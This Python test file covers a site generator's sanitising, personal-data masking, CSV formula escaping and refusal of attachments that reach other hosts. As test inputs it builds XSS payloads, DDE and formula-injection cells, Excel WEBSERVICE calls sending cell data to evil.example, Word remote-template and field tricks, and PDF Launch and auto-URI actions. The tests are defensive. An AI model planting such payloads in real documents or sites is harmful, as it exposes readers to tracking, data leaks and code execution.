"""One model of HTML, one normalisation, one masking (issue 11), outside the fixtures."""
import csv
import io
import json
import random
import re
import subprocess

import pytest

from conftest import NOW, NOW_EPOCH, ROOT, make_project, zensical_or_skip
from generator import sanitize
from generator.attachments import Passage, Refused, extract_text
from generator.checks import validate
from generator.cli import main
from generator.normalise import decode_url, normalise
from generator.opendata import csv_document, formula_safe
from generator.pipeline import build
from generator.privacy import mask_text

ID = "110105199003071239"
ID2 = "310104198511204567"


def test_normalise_removes_what_renders_as_nothing():
    assert normalise("１３８\u00ad1234\u200e5678\u2060") == "13812345678"
    assert normalise("wangwu＠qq。com\u3000") == "wangwu@qq.com "
    assert decode_url("mailto:wangwu%40qq.com") == "mailto:wangwu@qq.com"
    assert decode_url("jav&#9;ascript:x") == "javascript:x"
    assert normalise("第一行\n第二行").count("\n") == 1


def test_the_format_class_is_every_cf_character():
    import re
    import sys
    import unicodedata

    from generator.normalise import FORMAT_CLASS

    pattern = re.compile(FORMAT_CLASS)
    wrong = [c for c in range(sys.maxunicode + 1)
             if (unicodedata.category(chr(c)) == "Cf") != bool(pattern.fullmatch(chr(c)))]
    assert wrong == []


# Default_Ignorable_Code_Point in Unicode 14.0's DerivedCoreProperties.txt.
_DEFAULT_IGNORABLE = [(0x00AD, 0x00AD), (0x034F, 0x034F), (0x061C, 0x061C), (0x115F, 0x1160),
                      (0x17B4, 0x17B5), (0x180B, 0x180F), (0x200B, 0x200F), (0x202A, 0x202E),
                      (0x2060, 0x206F), (0x3164, 0x3164), (0xFE00, 0xFE0F), (0xFEFF, 0xFEFF),
                      (0xFFA0, 0xFFA0), (0xFFF0, 0xFFF8), (0x1BCA0, 0x1BCA3),
                      (0x1D173, 0x1D17A), (0xE0000, 0xE0FFF)]


def test_every_character_that_renders_as_nothing_is_dropped_before_a_scan():
    """A variation selector or a filler between two digits hid an ID number from the
    scans (only format characters were dropped) while the browser showed the digits."""
    from generator.normalise import normalise

    kept = [f"U+{c:04X}" for low, high in _DEFAULT_IGNORABLE for c in range(low, high + 1)
            if normalise(f"罗{chr(c)}1{chr(c)}2") != "罗12"]
    assert kept == []


# Unicode 14.0's Prepended_Concatenation_Mark (PropList.txt): format characters that
# show a glyph (the Arabic number sign over the digits after it).
_PREPENDED_MARKS = [(0x0600, 0x0605), (0x06DD, 0x06DD), (0x070F, 0x070F), (0x0890, 0x0891),
                    (0x08E2, 0x08E2), (0x110BD, 0x110BD), (0x110CD, 0x110CD)]


def test_a_one_line_value_keeps_no_character_that_renders_as_nothing():
    """A unit's name, a title or an address holds no character the reader cannot see:
    each that renders as nothing (Cf and Default_Ignorable) is removed when read, or
    refused where written (bidi controls, tag characters: a run of variation selectors
    too), a single variation selector aside (it picks a glyph). 东<U+17B4>城镇,
    东<U+1D173>城镇 and 东<U+206A>城镇 were kept as names no reader could tell from 东城镇."""
    import sys
    import unicodedata

    from generator.load import clean_cell, control_in

    ranges = _DEFAULT_IGNORABLE + [(c, c) for c in range(sys.maxunicode + 1)
                                   if unicodedata.category(chr(c)) == "Cf"]
    shown = {c for low, high in _PREPENDED_MARKS for c in range(low, high + 1)}
    selectors = {c for c in range(0xFE00, 0xFE10)} | set(range(0xE0100, 0xE01F0)) \
        | set(range(0x180B, 0x180E)) | {0x180F}
    kept = sorted({f"U+{c:04X}" for low, high in ranges for c in range(low, high + 1)
                   if c not in shown | selectors and control_in(chr(c)) is None
                   and clean_cell(f"东{chr(c)}城镇") != "东城镇"})
    assert kept == []
    # two selectors in a row are refused where written, one is kept as the glyph's choice
    assert control_in("东\ufe00\ufe01城") is not None and control_in("东\ufe0f城") is None


def test_a_unit_named_with_a_character_that_renders_as_nothing_is_named_as_shown(tmp_path):
    from generator.checks import validate

    project = make_project(tmp_path / "c")
    units = project / "data/units.csv"
    text = units.read_text("utf-8")
    units.write_text(text.replace("XZ01,东城镇,", "XZ01,东\u17b4城\U0001d173镇\u206a,", 1), "utf-8")
    data, report = validate(project, NOW)
    assert report.flatten() == []
    assert [u["name"] for u in data.units if u["id"] == "XZ01"] == ["东城镇"]


def test_the_audit_and_the_check_resolve_hosts_as_chromium_does():
    links = sanitize.Links("https://zhuanxiang.example.gov.cn/", {"zhuanxiang.example.gov.cn",
                                                                   "example.gov.cn"})
    assert links.third_party("https://evil.example\\@example.gov.cn/") == "evil.example"
    assert links.third_party("/\\evil.example/t.png") == "evil.example"
    assert links.third_party("http:evil.example/x") == "evil.example"
    assert links.third_party("//evil.example/x") == "evil.example"
    assert links.third_party("../cases/2026-001/") == ""
    assert links.third_party("https://www.example.gov.cn/a") == ""
    assert links.script_scheme("jav\tascript:alert(1)") == "javascript:"
    assert links.script_scheme(" data:text/html,x") == "data:"


def test_the_sanitiser_keeps_what_notices_are_written_with():
    body = ("## 小标题\n\n正文 **加粗** [链接](../report.md)\n\n| 甲 | 乙 |\n|:--|--:|\n| 1 | 2 |\n\n"
            '!!! note "提示"\n    内容\n\n??? info "展开"\n    更多\n')
    assert sanitize.removed(sanitize.markdown_html(body)) == []


def test_a_dirty_body_is_rendered_sanitised_even_without_check():
    from generator.render import notice_body

    links = sanitize.Links("https://zhuanxiang.example.gov.cn/", {"zhuanxiang.example.gov.cn"})
    out = notice_body('<!--><img src="x"/onerror=alert(1)>--> 和 <img src="/\\evil.example/t">',
                      links)
    assert "onerror" not in out and "evil.example" not in out and "<!--" not in out
    assert notice_body("正文 [链接](../report.md)", links) == "正文 [链接](../report.md)"


def test_labels_with_markup_are_found_plain_ones_are_not():
    assert not sanitize.markup_in("首页") and not sanitize.markup_in("A & B < C")
    assert sanitize.markup_in("首页<img src=x onerror=alert(1)>")
    assert sanitize.markup_in("整改&#21488;账") and sanitize.markup_in("x<!-- -->")


def test_navigation_labels_reach_the_theme_as_html_text(tmp_path):
    from generator import mkdocs_hook

    project = make_project(tmp_path / "c")
    labels = project / "site_config/labels.yml"
    labels.write_text(labels.read_text("utf-8").replace("  home: 首页\n", "  home: 首页 & 动态\n"),
                      "utf-8")

    class Config(dict):
        config_file_path = str(project / "mkdocs.yml")
        docs_dir = str(project / "content")
        extra: dict = {}
        theme: dict = {}  # what the hook sets for the reader (logo, favicon, palette names)
        plugins: dict = {}
        extra_css = ["assets/stylesheets/site.css"]  # linked with ?v= by the hook
        extra_javascript: list = []

    config = Config()
    config.theme = {"palette": [{"toggle": {"name": ""}}, {"toggle": {"name": ""}}]}
    text = labels.read_text("utf-8").replace(
        "  elder_on: 切换到大字版\n",
        "  elder_on: '切换到大字版\" style=\"position:fixed;inset:0\" data-x=\"'\n")
    labels.write_text(text, "utf-8")
    mkdocs_hook.on_config(config)
    assert config.nav[0] == {"首页 &amp; 动态": "index.md"}
    assert config.extra_css[0].startswith("assets/stylesheets/site.css?v=")
    # the palette's names are printed into title="…" and aria-label="…" as they are
    assert config.theme["palette"][0]["toggle"]["name"] == (
        "切换到大字版&quot; style=&quot;position:fixed;inset:0&quot; data-x=&quot;")


def test_the_label_reference_is_the_shipped_labels(request):
    """generator/label_fields.yml, which `check` holds staff's labels to, says what the
    shipped labels.yml has: every label, its placeholders, every list."""
    from generator.checks import _label_reference, label_reference_text

    made = label_reference_text((ROOT / "site_config/labels.yml").read_text("utf-8"))
    reference = ROOT / "generator/label_fields.yml"
    if request.config.getoption("--update-golden"):
        reference.write_text(made, "utf-8")
    assert reference.read_text("utf-8") == made
    fields, lists = _label_reference()
    assert fields["home.phase_running"] == {"name", "start", "end", "left"}
    assert "reader.decisive_columns" in lists
    assert sum(1 for names in fields.values() if names) > 60


# ------------------------------------------------------------------- masking

def _masked_project(tmp_path):
    project = make_project(tmp_path / "c")
    case = project / "data/cases/2026-001.yml"
    text = case.read_text("utf-8")
    case.write_text(text.replace("unit: XZ01", f"unit: {ID2}"), "utf-8")
    draft = project / "data/cases/2026-002.yml"
    draft.write_text(text.replace("id: 2026-001", "id: 2026-002").replace(
        "title: 东城镇办事员张某某推诿扯皮问题", "title: 联系 13812345678 的问题") + "draft: 是\n",
        "utf-8")
    units = project / "data/units.csv"
    units.write_text(units.read_text("utf-8") + f"ZZ01,{ID},乡镇,县委办公室,否,否,否\n"
                     f"ZZ02,{ID},乡镇,县委办公室,否,否,否\n", "utf-8")
    return project


@pytest.mark.parametrize("form", ["text", "github", "gitlab"])
def test_no_message_prints_a_value_unmasked(form, tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", NOW_EPOCH)
    project = _masked_project(tmp_path)
    assert main(["--root", str(project), "check", "--format", form]) == 1
    out = capsys.readouterr().out
    assert ID not in out and ID2 not in out and "13812345678" not in out
    assert "110***********1239" in out and "310***********4567" in out
    if form == "text":
        assert "unknown-reference" in out and "duplicate-record" in out
        assert "“联系 138****5678 的问题”：草稿" in out  # the unpublished summary
    if form == "gitlab":
        assert ID not in json.dumps(json.loads(out), ensure_ascii=False)


def test_mask_text_masks_every_kind_in_place():
    assert mask_text(f"单位“{ID}”不存在；电话 138-1234-5678；zhang3@qq。com") == \
        "单位“110***********1239”不存在；电话 138****5678；z***@qq.com"


# ------------------------------------------------------------------- CSV

def test_every_csv_the_site_serves_is_formula_safe(tmp_path):
    assert formula_safe("=HYPERLINK(\"https://evil.example\",\"x\")").startswith("'=")
    assert formula_safe("-12") == "-12" and formula_safe("-x") == "'-x"
    assert formula_safe("@SUM(A1)") == "'@SUM(A1)" and formula_safe("+1+1") == "'+1+1"
    data = csv_document(["名称", "数"], [["=1+1", 3], ["正常", None]])
    assert data.startswith("\ufeff".encode())
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows == [["名称", "数"], ["'=1+1", "3"], ["正常", ""]]
    site = build(make_project(tmp_path / "c"), NOW, history=False)
    served = [k for k in site.files if k.endswith(".csv")]
    assert any(k.startswith("charts/") for k in served) and any(
        k.startswith("open-data/") for k in served)
    for key in served:
        for row in csv.reader(io.StringIO(site.files[key].decode("utf-8-sig"))):
            assert not any(cell[:1] in "=+@\t\r" and cell for cell in row), (key, row)


def test_chart_csv_goes_through_the_shared_function(monkeypatch):
    import pandas as pd

    from generator import charts

    frame = pd.DataFrame({"=cmd|' /C calc'!A0": [1.5]}, index=["=HYPERLINK(1)"])
    rows = list(csv.reader(io.StringIO(charts.csv_bytes(frame, "@x").decode("utf-8-sig"))))
    assert rows == [["'@x", "'=cmd|' /C calc'!A0"], ["'=HYPERLINK(1)", "1.5"]]


# ------------------------------------------------------------------- attachments

def test_extract_text_reads_plain_text_and_refuses_markup_files():
    assert extract_text("名单.txt", "张三 13812345678\n\n李四".encode()) == [
        Passage(1, "", "张三 13812345678"), Passage(3, "", "李四")]
    assert extract_text("a.csv", "甲,乙\n".encode("gb18030")) == [Passage(1, "", "甲,乙")]
    for name, data in [("a.xml", b"<x/>"), ("a.xhtml", b"<html/>"), ("a.html", b"<p>x</p>"),
                       ("a.exe", b"MZ"), ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg">'
                                                   b'<script>alert(1)</script></svg>')]:
        with pytest.raises(Refused):
            extract_text(name, data)
    assert extract_text("ok.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><text>'
                                  b"\xe5\x9b\xbe</text></svg>") == [Passage(1, "", "图")]


# ------------------------------------------------- attachments that reach outside the file
# Opening one of these makes the reader's Word, Excel or PDF reader fetch an address
# (the reader's IP, time and software go to whoever runs it) or run a program: refused,
# each with a message naming what was found. A hyperlink the reader clicks is allowed,
# in Word, Excel and PDF alike, as a link on the site is, and its address is scanned.

def _docx_with_remote_template() -> bytes:
    import zipfile

    import docx

    d = docx.Document()
    d.add_paragraph("附件：名单说明。")
    buf = io.BytesIO()
    d.save(buf)
    zin = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "word/settings.xml":
                data = data.replace(b"<w:defaultTabStop",
                                    b'<w:attachedTemplate r:id="rIdEvil"/><w:defaultTabStop', 1)
            if item.filename == "word/document.xml":
                data = data.replace(b"<w:sectPr", b"<w:p><w:fldSimple w:instr=' INCLUDEPICTURE "
                                    b'"http://evil.example/p.png" \\d \'><w:r><w:t>p</w:t></w:r>'
                                    b"</w:fldSimple></w:p><w:sectPr", 1)
            zout.writestr(item, data)
        zout.writestr("word/_rels/settings.xml.rels", (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns='
            '"http://schemas.openxmlformats.org/package/2006/relationships"><Relationship '
            'Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
            'TargetMode="External"/></Relationships>'))
    return out.getvalue()


def _xlsx_with_webservice() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.active["A1"] = "单位"
    book.active["A2"] = '=WEBSERVICE("http://evil.example/?q="&A1)'
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _pdf_with_page_open_uri() -> bytes:
    from pypdf import PdfWriter
    from pypdf.generic import DictionaryObject, NameObject, TextStringObject

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    action = DictionaryObject({NameObject("/S"): NameObject("/URI"),
                               NameObject("/URI"): TextStringObject("http://evil.example/o")})
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
    buf = io.BytesIO()
    writer.write(buf)
    return buf.getvalue()


_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def _package(made: bytes, edits=(), added=None) -> bytes:
    """A DOCX/XLSX package with (part, old, new) replacements made and parts added;
    a part ending in .rels that already exists gets the added relationships."""
    import zipfile

    added = dict(added or {})
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(made)) as zin, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            for part, old, new in edits:
                if part == item.filename:
                    assert old in data, old
                    data = data.replace(old, new, 1)
            if item.filename in added:
                data = data.replace(b"</Relationships>",
                                    added.pop(item.filename).encode() + b"</Relationships>")
            zout.writestr(item, data)
        for part, data in added.items():
            if part.endswith(".rels"):
                data = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://'
                        f'schemas.openxmlformats.org/package/2006/relationships">{data}'
                        "</Relationships>")
            zout.writestr(part, data)
    return out.getvalue()


def _rel(rid: str, kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{rid}" Type="{_REL}{kind}" Target="{target}"{mode}/>'


def _docx(text: str = "附件：名单说明。", body: str = "", edits=(), added=None) -> bytes:
    """A Word file of one paragraph, with `body` (WordprocessingML) added after it."""
    import docx

    document = docx.Document()
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    edits = [("word/document.xml", b"<w:sectPr", body.encode() + b"<w:sectPr"), *edits]
    return _package(buffer.getvalue(), edits, added)


def _field(*runs: str) -> str:
    """A paragraph holding one complex field whose code is written over `runs`."""
    code = "".join(f'<w:r><w:instrText xml:space="preserve">{run}</w:instrText></w:r>'
                   for run in runs)
    return ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' + code +
            '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>结果</w:t></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _xlsx(*cells: tuple[str, str], setup=None, edits=(), added=None) -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.title = "名单"
    for ref, value in cells:
        book.active[ref] = value
    if setup:
        setup(book)
    buffer = io.BytesIO()
    book.save(buffer)
    return _package(buffer.getvalue(), edits, added)


def _raw_pdf(catalog: bytes = b"", page: bytes = b"", *more: bytes) -> bytes:
    """A one-page PDF written by hand (names as written, #xx escapes included), with
    `catalog` and `page` added to those dictionaries and `more` as objects 4, 5…"""
    objects = [b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
               b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
               b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]" + page + b">>", *more]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    out.write(b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, xref))
    return out.getvalue()


def _link(action: bytes) -> bytes:
    """A page's link annotation that runs `action` when clicked."""
    return b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 50 50]/A" + action + b">>]"


REACHING_OUT = {
    # Word: relationships to outside targets, fields that fetch, objects that run
    "remote template and INCLUDEPICTURE": ("说明.docx", _docx_with_remote_template, "模板"),
    "remote template": ("说明.docx", lambda: _docx(edits=[(
        "word/settings.xml", b"<w:defaultTabStop",
        b'<w:attachedTemplate r:id="rIdT"/><w:defaultTabStop')], added={
        "word/_rels/settings.xml.rels": _rel("rIdT", "attachedTemplate",
                                             "http://evil.example/t.dotm")}),
        "模板.*http://evil.example/t.dotm"),
    "INCLUDEPICTURE in fldSimple": ("说明.docx", lambda: _docx(body=(
        "<w:p><w:fldSimple w:instr=' INCLUDEPICTURE \"http://evil.example/p.png\" \\d '>"
        "<w:r><w:t>p</w:t></w:r></w:fldSimple></w:p>")), "INCLUDEPICTURE"),
    "includepicture split over instrText runs": ("说明.docx", lambda: _docx(body=_field(
        " includ", 'ePicture "http://evil.example/p.png" \\d ')), "includePicture"),
    "INCLUDETEXT": ("说明.docx", lambda: _docx(body=_field(
        ' INCLUDETEXT "\\\\\\\\evil.example\\\\s\\\\a.docx" ')), "INCLUDETEXT"),
    "LINK": ("说明.docx", lambda: _docx(body=_field(
        ' LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\s\\\\b.xlsx" "Sheet1!R1C1" \\a ')),
        "LINK"),
    "DDEAUTO": ("说明.docx", lambda: _docx(body=_field(
        ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" ')), "DDE"),
    "DDE nested in an IF field": ("说明.docx", lambda: _docx(body=(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> IF 1 = 1 '
        '</w:instrText></w:r>' + _field(" dde cmd.exe \"/c calc\" ")[5:-6] +
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')), "dde"),
    "field name made by a nested field": ("说明.docx", lambda: _docx(body=(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
        _field(' QUOTE "INCLUDEPICTURE" ')[5:-6] +
        '<w:r><w:instrText> "http://evil.example/p.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')), "嵌套"),
    "linked picture": ("说明.docx", lambda: _docx(added={
        "word/_rels/document.xml.rels": _rel("rIdP", "image", "http://evil.example/p.png")}),
        "图片.*http://evil.example/p.png"),
    "UNC target without TargetMode": ("说明.docx", lambda: _docx(added={
        "word/_rels/document.xml.rels": _rel("rIdP", "image", "\\\\evil.example\\s\\p.png",
                                             external=False)}), "图片"),
    "frame in webSettings": ("说明.docx", lambda: _docx(added={
        "word/_rels/webSettings.xml.rels": _rel("rIdF", "frame", "http://evil.example/f.htm")}),
        "框架网页"),
    "hyperlink used as a template": ("说明.docx", lambda: _docx(edits=[(
        "word/settings.xml", b"<w:defaultTabStop",
        b'<w:attachedTemplate r:id="rIdH"/><w:defaultTabStop')], added={
        "word/_rels/settings.xml.rels": _rel("rIdH", "hyperlink", "http://evil.example/t")}),
        "用作 attachedTemplate"),
    "OLE object": ("说明.docx", lambda: _docx(added={
        "word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), "OLE"),
    "linked OLE object": ("说明.docx", lambda: _docx(added={
        "word/_rels/document.xml.rels": _rel("rIdO", "oleObject", "file:///C:/x.xlsx")}),
        "OLE 对象.*file:///C:/x.xlsx"),
    "ActiveX control": ("说明.docx", lambda: _docx(added={
        "word/activeX/activeX1.xml": "<ax/>"}), "ActiveX"),
    "macros": ("说明.docx", lambda: _docx(added={"word/vbaProject.bin": b"\0"}), "宏"),
    "altChunk": ("说明.docx", lambda: _docx(added={
        "word/afchunk.mht": "MIME-Version: 1.0", "word/_rels/document.xml.rels": _rel(
            "rIdA", "aFChunk", "afchunk.mht", external=False)}), "altChunk"),
    "mail merge": ("说明.docx", lambda: _docx(edits=[(
        "word/settings.xml", b"<w:defaultTabStop",
        b'<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:connectString w:val='
        b'"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\evil.example\\s\\d.mdb"/>'
        b'</w:mailMerge><w:defaultTabStop')]), "邮件合并"),
    "embedded workbook that fetches": ("说明.docx", lambda: _docx(added={
        "word/embeddings/Microsoft_Excel_Worksheet.xlsx": _xlsx_with_webservice()}),
        "嵌入的 word/embeddings/Microsoft_Excel_Worksheet.xlsx：.*WEBSERVICE"),
    "embedded presentation": ("说明.docx", lambda: _docx(added={
        "word/embeddings/Microsoft_PowerPoint_Presentation.pptx": b"PK"}), "其他文件"),
    "document embedded twice over": ("说明.docx", lambda: _docx(added={
        "word/embeddings/a.docx": _docx(added={"word/embeddings/b.xlsx": _xlsx(("A1", "x"))})}),
        "又嵌有"),
    # Excel: formulas that fetch or call, links to other workbooks, data connections
    "WEBSERVICE": ("表.xlsx", _xlsx_with_webservice, "“Sheet”A2.*WEBSERVICE"),
    "webservice in lower case": ("表.xlsx", lambda: _xlsx(
        ("B3", '=webservice("http://evil.example/")')), "“名单”B3.*WEBSERVICE"),
    "IMAGE": ("表.xlsx", lambda: _xlsx(
        ("A1", '=_xlfn.IMAGE("http://evil.example/i.png")')), "IMAGE"),
    "WEBSERVICE saved as an unknown function": ("表.xlsx", lambda: _xlsx(
        ("A1", '=_xludf.WEBSERVICE("http://evil.example/")')), "WEBSERVICE"),
    "RTD": ("表.xlsx", lambda: _xlsx(("A1", '=RTD("evil.server","evil.example","x")')),
            "RTD"),
    "FILTERXML": ("表.xlsx", lambda: _xlsx(("A1", '=FILTERXML(B1,"//a")')), "FILTERXML"),
    "WEBSERVICE in a defined name": ("表.xlsx", lambda: _xlsx(("A1", "=取数"), setup=lambda b:
        b.defined_names.add(__import__("openpyxl").workbook.defined_name.DefinedName(
            "取数", attr_text='WEBSERVICE("http://evil.example/")'))), "名称“取数”"),
    "another workbook by index": ("表.xlsx", lambda: _xlsx(("A1", "=[1]Sheet1!A1")),
                                  "其他工作簿"),
    "another workbook by path": ("表.xlsx", lambda: _xlsx(
        ("A1", "='\\\\evil.example\\s\\[b.xlsx]Sheet1'!A1")), "其他工作簿"),
    "DDE": ("表.xlsx", lambda: _xlsx(("A1", "=cmd|' /C calc'!A0")), "DDE"),
    "external link part": ("表.xlsx", lambda: _xlsx(("A1", "x"), added={
        "xl/externalLinks/externalLink1.xml": "<externalLink/>"}), "externalLinks"),
    "data connection": ("表.xlsx", lambda: _xlsx(("A1", "x"), added={
        "xl/connections.xml": "<connections/>"}), "数据连接"),
    "linked picture in a sheet": ("表.xlsx", lambda: _xlsx(("A1", "x"), added={
        "xl/worksheets/_rels/sheet1.xml.rels": _rel("rIdP", "image", "http://evil.example/p")}),
        "图片.*http://evil.example/p"),
    # PDF: actions run by themselves, actions that submit, import, launch or open
    # another file, media; names written with #xx escapes are the same names
    "page-open URI": ("表.pdf", _pdf_with_page_open_uri, "/AA.*http://evil.example/o"),
    "document-level URI": ("表.pdf", lambda: _raw_pdf(
        b"/AA<</WC<</S/URI/URI(http://evil.example/c)>>>>"), "/AA.*http://evil.example/c"),
    "open action URI": ("表.pdf", lambda: _raw_pdf(
        b"/OpenAction 4 0 R", b"", b"<</S/URI/URI(http://evil.example/o)>>"),
        "/OpenAction.*http://evil.example/o"),
    "SubmitForm": ("表.pdf", lambda: _raw_pdf(b"", _link(
        b"<</S/SubmitForm/F<</FS/URL/F(http://evil.example/s)>>>>")), "SubmitForm"),
    "ImportData": ("表.pdf", lambda: _raw_pdf(b"", _link(b"<</S/ImportData/F(d.fdf)>>")),
                   "ImportData"),
    "GoToR": ("表.pdf", lambda: _raw_pdf(b"", _link(
        b"<</S/GoToR/F(\\\\\\\\evil.example\\\\s\\\\o.pdf)/D[0/Fit]>>")), "GoToR"),
    "GoToE": ("表.pdf", lambda: _raw_pdf(b"", _link(b"<</S/GoToE/T<</R/C/N(x)>>>>")),
              "GoToE"),
    "Launch": ("表.pdf", lambda: _raw_pdf(b"", _link(b"<</S/Launch/F(calc.exe)>>")), "Launch"),
    "Launch by an indirect name": ("表.pdf", lambda: _raw_pdf(b"", _link(
        b"<</S 4 0 R/F(calc.exe)>>"), b"/Launch"), "Launch"),
    "Sound": ("表.pdf", lambda: _raw_pdf(b"", _link(b"<</S/Sound>>")), "Sound"),
    "Movie annotation": ("表.pdf", lambda: _raw_pdf(b"", (
        b"/Annots[<</Type/Annot/Subtype/Movie/Rect[0 0 9 9]"
        b"/Movie<</F<</FS/URL/F(http://evil.example/m.mov)>>>>>>]")), "Movie"),
    "RichMedia annotation": ("表.pdf", lambda: _raw_pdf(b"", (
        b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]")), "RichMedia"),
    "Rendition": ("表.pdf", lambda: _raw_pdf(b"", _link(b"<</S/Rendition/OP 0>>")),
                  "Rendition"),
    "URL file specification": ("表.pdf", lambda: _raw_pdf(b"", _link(
        b"<</S/Thread/F<</FS/URL/F(http://evil.example/t.pdf)>>>>")), "/URL"),
    "XFA form": ("表.pdf", lambda: _raw_pdf(b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"",
                                           b"<</Length 0>>stream\n\nendstream"), "XFA"),
    "SubmitForm written #xx-escaped": ("表.pdf", lambda: _raw_pdf(b"", _link(
        b"<</S/Subm#69tForm/F(http://evil.example/s)>>")), "SubmitForm"),
    "JavaScript written #xx-escaped": ("表.pdf", lambda: _raw_pdf(b"", _link(
        b"<</S/J#61vaScript/J#53(app.alert(1))>>")), "JavaScript"),
    # VML (a Word picture, an Excel comment's shape): addresses in attributes, no relationship
    "VML picture from an address": ("说明.docx", lambda: _docx(body=(
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1">'
        '<v:imagedata src="http://evil.example/p.png"/></v:shape></w:pict></w:r></w:p>')),
        "imagedata src.*http://evil.example/p.png"),
    "VML picture's o:href on a Windows share": ("说明.docx", lambda: _docx(body=(
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:'
        'schemas-microsoft-com:office:office" id="s1"><v:imagedata o:href="\\\\evil.example'
        '\\s\\p.png"/></v:shape></w:pict></w:r></w:p>')), "imagedata href"),
    "VML fill in an Excel comment's drawing": ("表.xlsx", lambda: _xlsx(("A1", "x"), added={
        "xl/drawings/vmlDrawing9.vml": '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape'
        ' id="c1"><v:fill src="http://evil.example/f.png"/></v:shape></xml>'}), "fill src"),
    "VML that is not well-formed XML": ("表.xlsx", lambda: _xlsx(("A1", "x"), added={
        "xl/drawings/vmlDrawing9.vml": "<xml><v:shape id='c1'><br><v:imagedata o:href="
        "'file:///C:/x.png'/></v:shape></xml>"}), "file:///C:/x.png"),
    # CSV/TSV attachments are published as they are: a reader's Excel runs a formula cell
    "CSV cell written as a formula": ("名单.csv", lambda: (
        '单位,详情\n甲,"多行\n说明"\n乙,"=HYPERLINK(""https://evil.example/"",""点"")"\n'
    ).encode(), "第4行.*HYPERLINK"),
    "TSV cell that calls a program by DDE": ("名单.tsv", lambda: (
        "单位\t详情\n甲\t+cmd|' /C calc'!A0\n").encode("gb18030"), "第2行.*cmd"),
    "HYPERLINK to an address made by a formula": ("表.xlsx", lambda: _xlsx(
        ("A1", '=HYPERLINK("http://evil."&"example/","点")')), "HYPERLINK"),
    "page /AA written #xx-escaped": ("表.pdf", lambda: _raw_pdf(b"", (
        b"/#41A<</O<</S/URI/URI(http://evil.example/o)>>>>")), "/AA.*http://evil.example/o"),
}


@pytest.mark.parametrize("name,make,found", REACHING_OUT.values(), ids=REACHING_OUT.keys())
def test_an_attachment_that_reaches_another_host_is_refused(name, make, found):
    with pytest.raises(Refused, match=found) as refused:
        extract_text(name, make())
    assert refused.value.args[0] == "file-refused"


def test_a_hyperlink_the_reader_clicks_is_kept_and_its_address_scanned():
    """A link followed only when the reader clicks it is allowed, in Word, Excel and
    PDF alike (as a link on the site is); its address is read like the text."""
    def hyperlinked(cell):
        cell.hyperlink = "mailto:zhangsan@qq.com"

    word = _docx(body='<w:p><w:hyperlink r:id="rIdH"><w:r><w:t>写信</w:t></w:r>'
                      '</w:hyperlink></w:p>', added={"word/_rels/document.xml.rels": _rel(
                          "rIdH", "hyperlink", "mailto:zhangsan%40qq.com")})
    assert _kinds("a.docx", word) == ["email"]
    field = _docx(body=_field(' HYPERLINK "https://www.example.gov.cn/" '))
    assert extract_text("b.docx", field)
    sheet = _xlsx(("A1", "写信"), ("A2", '=HYPERLINK("https://www.example.gov.cn/","网站")'),
                  ("A3", '="WEBSERVICE(1)"'), ("A4", "=SUM(Table1[Amount])"),
                  setup=lambda book: hyperlinked(book.active["A1"]))
    assert _kinds("c.xlsx", sheet) == ["email"]
    pdf = _raw_pdf(b"/OpenAction[3 0 R/Fit]", _link(b"<</S/URI/URI(mailto:zhangsan@qq.com)>>"))
